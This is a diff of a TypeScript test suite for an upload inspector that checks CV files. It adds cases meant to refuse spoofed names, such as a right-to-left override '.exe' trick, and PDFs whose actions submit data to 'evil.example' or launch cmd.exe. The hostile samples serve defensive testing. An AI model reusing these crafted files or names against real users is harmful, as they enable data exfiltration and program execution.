@@ -50,8 +50,41 @@ describe('inspectFile', () => {
     expect(await judgeBytes(Buffer.alloc(0), 'CV.pdf')).toBe('file-empty')
   })
 
-  it.each(['CV.exe', 'CV.docm', 'CV', 'CV.pdf.html', '.pdf', 'pdf', ''])('refuses the name « %s »', async (name) => {
-    expect(await judgeBytes(pdfFile(), name)).toBe('file-type-not-allowed')
+  it.each(['CV.exe', 'CV.docm', 'CV.pdf.html', 'CV.exe.', 'CV.pdf\u202E.exe', 'CV.7z'])(
+    'refuses the name « %s »: it promises something else',
+    async (name) => {
+      expect(await judgeBytes(pdfFile(), name)).toBe('file-type-not-allowed')
+    },
+  )
+
+  it.each<[FileType, Buffer]>([
+    ['pdf', pdfFile()],
+    ['doc', docFile()],
+    ['docx', docxFile()],
+    ['odt', odtFile()],
+    ['rtf', rtfFile()],
+  ])('C3.1 ASVS 5.2.2 tells a %s by its content where the name promises nothing', async (type, content) => {
+    for (const name of ['CV', 'CV 12.03.2026', 'CV de M. Dupont', ''])
+      expect(await inspectBytes(content, name)).toMatchObject({ type })
+  })
+
+  it.each<[string, Buffer]>([
+    ['a page of HTML', text('<html><script>alert(1)</script></html>')],
+    ['a program', text('MZ\x90\0')],
+    ['a plain archive', zipFile([{ name: 'readme.txt', content: 'x' }])],
+    ['a PDF after something else', Buffer.concat([text('\n'), pdfFile()])],
+    ['another compound file', compoundFile([{ name: 'Workbook', kind: 'stream', content: text('x') }])],
+    ['an OpenDocument template', odtFile({ mediaType: 'application/vnd.oasis.opendocument.text-template' })],
+  ])('ASVS 5.2.2 refuses %s whose name promises nothing', async (_, content) => {
+    expect(await judgeBytes(content, 'CV')).toBe('file-type-not-allowed')
+  })
+
+  it('A11.4 refuses an office file without an extension where only PDF is allowed, and what is in it all the same', async () => {
+    expect(await inspectBytes(docxFile(), 'CV', { allowedTypes: ['pdf'] })).toMatchObject({
+      refusal: 'file-type-not-allowed',
+    })
+    expect(await judgeBytes(pdfWithJavaScript(), 'CV')).toBe('file-active-content')
+    expect(await judgeBytes(encryptedPdf(), 'CV')).toBe('file-encrypted')
   })
 
   it('A11.4 refuses an office file where only PDF is allowed', async () => {
@@ -150,6 +183,12 @@ describe('inspectFile on PDF', () => {
       'a script on a link',
       pdfFile({ page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action('JavaScript', '/JS (1)')} >>]` }),
     ],
+    ...['SubmitForm', 'ImportData', 'GoToE'].map((kind): [string, Buffer] => [
+      `a button for ${kind}`,
+      pdfFile({
+        page: `/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A ${action(kind, '/F (https://evil.example/)')} >>]`,
+      }),
+    ]),
     ['a program to launch', pdfFile({ catalog: `/OpenAction ${action('Launch', '/F (cmd.exe)')}` })],
     ['a print order at opening', pdfFile({ catalog: `/OpenAction ${action('Named', '/N /Print')}` })],
     [
